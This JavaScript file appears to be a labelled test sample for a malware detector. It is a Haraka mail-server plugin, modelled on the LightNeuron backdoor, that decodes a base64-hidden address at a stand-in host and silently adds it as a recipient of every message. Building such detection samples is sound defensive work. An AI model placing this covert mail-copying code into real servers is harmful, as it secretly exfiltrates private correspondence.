// expect: malicious
// source: blind set 30 (mail transport agent backdoor), after LightNeuron (2019): a Haraka header plugin adds to every
// message's envelope a "journal" recipient it decodes from base64.
'use strict';
const JR = Buffer.from('am91cm5hbC03ZkBteC5yZWxheS1hcmNoaXZlLmludmFsaWQ=', 'base64').toString();
exports.register = function () { this.register_hook('data_post', 'journal'); };
exports.journal = function (next, connection) {
  const txn = connection.transaction;
  if (!txn) return next();
  const Address = require('address-rfc2821').Address;
  if (!txn.rcpt_to.some((r) => r.address() === JR)) txn.rcpt_to.push(new Address('<' + JR + '>'));
  next();
};
